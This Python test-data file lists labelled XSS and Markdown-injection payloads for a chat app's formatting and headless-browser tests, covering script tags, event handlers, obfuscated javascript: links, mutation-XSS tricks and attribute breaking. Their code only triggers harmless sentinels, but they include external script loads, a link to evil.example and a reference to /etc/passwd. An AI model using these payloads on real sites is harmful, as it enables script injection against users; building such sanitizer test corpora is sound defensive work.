"""XSS and Markdown-injection payloads, as data: (label, message body) pairs.

Used by tests/test_formatting.py (every payload through chat.formatting.render, the HTML
parsed and checked) and tests/test_xss_browser.py (every payload stored as a message and
shown in headless Chromium, the page checked). Sources: the OWASP XSS filter evasion cheat
sheet, the known mutation-XSS (mXSS) namespace confusions, and the Markdown-specific ones
(link destinations, autolinks, bare URLs, titles, nested brackets, images, @mentions, code).

Payloads that would run code, if they ever ran, do one of the sentinels the browser test
watches: `alert(1)` (a dialog), `window.__xss=1`, or `document.title='pwned'`. Labels are
unique, short and safe as pytest ids.
"""

from __future__ import annotations

# What a payload does if it runs (the browser test checks all three never happen).
JS = "window.__xss=1"
TITLE_JS = "document.title='pwned'"


def _wide(ascii_text: str) -> str:
    """The full-width forms (U+FF01-FF5E) of printable ASCII: "javascript:" as typed on
    some East Asian keyboards, which NFKC would fold back to ASCII."""
    return "".join(chr(ord(c) + 0xFEE0) for c in ascii_text)


PAYLOADS: list[tuple[str, str]] = [
    # --- script tags, in every case and shape ----------------------------------------------
    ("script-lower", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed-case", f"<ScRiPt>{JS}</sCrIpT>"),
    ("script-src", "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>"),
    ("script-slash-attr", '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'),
    ("script-unclosed", f"<script>{JS}"),
    ("script-double-open", '<<SCRIPT>alert("XSS");//<</SCRIPT>'),
    ("script-split", f"<scr<script>ipt>{JS}</scr</script>ipt>"),
    ("script-break-out", f'"><script>{JS}</script>'),
    ("script-close-first", f"</script><script>{JS}</script>"),
    ("script-nul-inside", f"<scr\x00ipt>{JS}</scr\x00ipt>"),
    ("script-in-svg", f"<svg><script>{JS}</script></svg>"),
    # --- elements with event handlers ------------------------------------------------------
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-js-src", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
    ("img-quotes-confusion", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
    ("img-slash-separators", f"<img/src/onerror={JS}>"),
    ("img-backtick-attr", "<img src=`x` onerror=`alert(1)`>"),
    ("svg-onload", f"<svg onload={JS}>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("body-onload", f"<body onload={JS}>"),
    ("iframe-js-src", "<iframe src=javascript:alert(1)></iframe>"),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object-data", "<object data=javascript:alert(1)></object>"),
    ("embed-src", "<embed src=javascript:alert(1)>"),
    ("math-href", "<math href=javascript:alert(1)>click</math>"),
    ("details-ontoggle", f"<details open ontoggle={JS}>x</details>"),
    ("input-autofocus", "<input onfocus=alert(1) autofocus>"),
    ("video-source-onerror", f"<video><source onerror={JS}></video>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("a-onmouseover", f'<a href="https://example.com" onmouseover="{JS}">x</a>'),
    ("div-onpointerenter", f"<div onpointerenter={JS}>hover</div>"),
    # --- style, refresh, base, forms -------------------------------------------------------
    ("style-tag", f"<style>@import 'javascript:{JS}';</style>"),
    ("style-attr-url", '<div style="background-image:url(javascript:alert(1))">x</div>'),
    ("style-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("meta-refresh-data", '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html,<script>'),
    ("base-href", '<base href="javascript:alert(1)//">'),
    ("link-stylesheet", "<link rel=stylesheet href=javascript:alert(1)>"),
    ("form-action", "<form action=javascript:alert(1)><button>go</button></form>"),
    ("button-formaction", "<button formaction=javascript:alert(1)>go</button>"),
    ("table-background", "<table background=javascript:alert(1)><tr><td>x</td></tr></table>"),
    # --- raw-HTML links and their scheme spellings -----------------------------------------
    ("html-a-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("html-a-entities", '<a href="&#106;avascript:alert(1)">x</a>'),
    (
        "img-decimal-entities",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
        "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    ),
    (
        "img-decimal-no-semicolons",
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
        "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114"
        "&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    ),
    (
        "img-hex-no-semicolons",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
        "&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    ),
    ("img-tab-in-scheme", "<IMG SRC=\"jav\tascript:alert('XSS');\">"),
    ("img-encoded-newline", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">"),
    # --- Markdown links: javascript:, vbscript:, data: in every spelling -------------------
    ("md-link-javascript", "[x](javascript:alert(1))"),
    ("md-link-javascript-upper", "[x](JAVASCRIPT:alert(1))"),
    ("md-link-javascript-mixed", f"[x](JaVaScRiPt:{JS})"),
    ("md-link-leading-space", "[x](   javascript:alert(1))"),
    ("md-link-leading-control", "[x](\x01\x02javascript:alert(1))"),
    ("md-link-leading-bom", "[x](\ufeffjavascript:alert(1))"),
    ("md-link-tab-in-scheme", "[x](java\tscript:alert(1))"),
    ("md-link-newline-in-scheme", "[x](<java\nscript:alert(1)>)"),
    ("md-link-nul-in-scheme", "[x](java\x00script:alert(1))"),
    ("md-link-entity-decimal", "[x](&#106;avascript:alert(1))"),
    ("md-link-entity-decimal-padded", "[x](&#0000106;avascript:alert(1))"),
    ("md-link-entity-hex", "[x](&#x6A;avascript:alert(1))"),
    ("md-link-entity-hex-no-semicolon", "[x](&#x6Aavascript:alert(1))"),
    ("md-link-entity-colon", "[x](javascript&colon;alert(1))"),
    ("md-link-entity-colon-decimal", "[x](javascript&#58;alert(1))"),
    ("md-link-entity-tab", "[x](java&#x09;script:alert(1))"),
    ("md-link-entity-newline", "[x](java&NewLine;script:alert(1))"),
    ("md-link-percent-colon", "[x](javascript%3Aalert(1))"),
    ("md-link-percent-letter", "[x](%6Aavascript:alert(1))"),
    ("md-link-backslash-escape", "[x](java\\script:alert(1))"),
    ("md-link-fullwidth", f"[x]({_wide('javascript:')}alert(1))"),
    ("md-link-zero-width-joiner", "[x](java\u200dscript:alert(1))"),
    ("md-link-zero-width-space", "[x](\u200bjavascript:alert(1))"),
    ("md-link-vbscript", "[x](vbscript:msgbox(1))"),
    ("md-link-data-html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-link-data-svg", "[x](data:image/svg+xml,<svg onload=alert(1)>)"),
    ("md-link-file", "[x](file:///etc/passwd)"),
    ("md-link-angle-dest", "[x](<javascript:alert(1)>)"),
    ("md-link-with-title", '[x](javascript:alert(1) "title")'),
    ("md-link-protocol-relative", "[x](//evil.example/x)"),
    ("md-link-https-then-js", "[x](https:javascript:alert(1))"),
    # --- attribute breaking inside Markdown links ------------------------------------------
    ("md-link-dest-double-quote", '[x](https://example.com/"onmouseover="alert(1))'),
    ("md-link-dest-single-quote", "[x](https://example.com/'onmouseover='alert(1))"),
    ("md-link-dest-angle-quote", '[x](<https://example.com/"><img src=x onerror=alert(1)>>)'),
    ("md-link-title-double-quote", '[x](https://example.com "t\\"onmouseover=alert(1) x=\\"")'),
    ("md-link-title-single-quote", "[x](https://example.com 't\\' onmouseover=alert(1) x=\\'')"),
    ("md-link-title-parens", '[x](https://example.com (a" onmouseover="alert(1)))'),
    ("md-link-text-html", "[<img src=x onerror=alert(1)>](https://example.com)"),
    ("md-link-nested", "[[x](javascript:alert(1))](https://example.com)"),
    ("md-link-nested-inner-ok", "[a [b](https://example.com) c](javascript:alert(1))"),
    ("md-link-brackets-chain", "[x](https://example.com)(javascript:alert(1))"),
    ("md-reference", "[x][r]\n\n[r]: javascript:alert(1)"),
    ("md-reference-title", '[x]\n\n[x]: https://example.com "a\\"onmouseover=\\"alert(1)"'),
    ("md-reference-collapsed", "[x][]\n\n[x]: <javascript:alert(1)>"),
    # --- images ----------------------------------------------------------------------------
    ("md-image-javascript", "![x](javascript:alert(1))"),
    ("md-image-onerror", '![x](https://example.com/x.png"onerror="alert(1))'),
    ("md-image-alt-break", '![x" onerror="alert(1)](https://example.com/x.png)'),
    ("md-image-data", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    # --- autolinks and bare URLs (linkify) -------------------------------------------------
    ("autolink-javascript", "<javascript:alert(1)>"),
    ("autolink-javascript-upper", "<JAVASCRIPT:alert(1)>"),
    ("autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("autolink-break-quote", '<https://example.com/"onmouseover="alert(1)>'),
    ("autolink-mailto-break", '<mailto:a@b.c"><img src=x onerror=alert(1)>>'),
    ("autolink-email-break", '<a"onmouseover="alert(1)@example.com>'),
    ("linkify-javascript-slashes", "javascript://example.com/%0aalert(1)"),
    ("linkify-quote", 'https://example.com/"onmouseover="alert(1)"'),
    ("linkify-tag-after", "https://example.com/<img/src/onerror=alert(1)>"),
    ("linkify-svg-query", 'https://example.com/?q="><svg/onload=alert(1)>'),
    ("linkify-protocol-relative", "//evil.example/x"),
    ("linkify-rtl-override", "https://example.com/\u202egpj.exe"),
    # --- entities and Unicode --------------------------------------------------------------
    ("entity-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("entity-hex-img", "&#x3C;img src=x onerror=alert(1)&#x3E;"),
    ("entity-decimal-img", "&#60;img src=x onerror=alert(1)&#62;"),
    ("entity-no-semicolon", "&#0000060img src=x onerror=alert(1)&#0000062"),
    ("entity-double-encoded", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    ("unicode-fullwidth-tags", _wide("<script>") + "alert(1)" + _wide("</script>")),
    ("unicode-rtl-override", "\u202e<img src=x onerror=alert(1)>\u202c"),
    ("unicode-zero-width", "<im\u200dg src=x o\u200bnerror=alert(1)>"),
    ("unicode-line-separator", "<img src=x\u2028onerror=alert(1)>"),
    # --- mutation XSS: parser-state and namespace confusion --------------------------------
    ("mxss-noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("mxss-style", "<style><img src=x onerror=alert(1)></style>"),
    ("mxss-svg-style", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("mxss-template", "<template><img src=x onerror=alert(1)></template>"),
    ("mxss-textarea", "<textarea><img src=x onerror=alert(1)></textarea>"),
    ("mxss-title", "<title><img src=x onerror=alert(1)></title>"),
    ("mxss-xmp", "<xmp><img src=x onerror=alert(1)></xmp>"),
    ("mxss-mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    (
        "mxss-malignmark",
        "<math><mtext><table><mglyph><malignmark><style><!--</style><img src=x onerror=alert(1)>",
    ),
    (
        "mxss-form-math",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    ("mxss-svg-p", '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">'),
    ("comment-open-close", "<!--><img src=x onerror=alert(1)>-->"),
    ("comment-in-attr", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    ("comment-bang", "<!--!><img src=x onerror=alert(1)>"),
    ("cdata", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    ("processing-instruction", "<?xml ><img src=x onerror=alert(1)>?>"),
    # --- @mentions breaking attributes -----------------------------------------------------
    ("mention-break-attr", '@"><img src=x onerror=alert(1)>'),
    ("mention-quote-handler", '@alice"onmouseover="alert(1)'),
    ("mention-then-script", f"@alice<script>{JS}</script>"),
    ("mention-in-link-text", "[@alice](javascript:alert(1))"),
    ("mention-in-url", 'https://example.com/@alice"onmouseover=alert(1)'),
    ("mention-single-quote", "@alice'onmouseover='alert(1)'"),
    # --- code spans and fences holding HTML ------------------------------------------------
    ("code-span-img", "`<img src=x onerror=alert(1)>`"),
    ("code-span-unclosed", "`<script>alert(1)</script>"),
    ("code-double-backtick", "``<svg onload=alert(1)>``"),
    ("fence-script", "```\n<script>alert(1)</script>\n```"),
    ("fence-info-break", '```"><img src=x onerror=alert(1)>\ncode\n```'),
    ("fence-info-lang", f"```html onload={JS}\n<b>x</b>\n```"),
    ("fence-unclosed", "```\n<iframe src=javascript:alert(1)>"),
    ("indented-code", "    <script>alert(1)</script>"),
    # --- Markdown structure around HTML ----------------------------------------------------
    ("quote-script", "> <script>alert(1)</script>"),
    ("list-img", "- <img src=x onerror=alert(1)>\n- two"),
    ("emphasis-around-tag", "**<img src=x onerror=alert(1)>**"),
    ("strike-around-tag", f"~~<svg onload={JS}>~~"),
    ("html-block-div", f"<div>\n\n<img src=x onerror={JS}>\n\n</div>"),
    ("title-sentinel", f'<img src=x onerror="{TITLE_JS}">'),
    ("backslash-lt", "\\<script>alert(1)\\</script>"),
    ("deep-nesting-then-html", "> > > > > > > > <img src=x onerror=alert(1)>"),
]

LABELS = [label for label, _ in PAYLOADS]
assert len(set(LABELS)) == len(LABELS), "corpus labels must be unique"
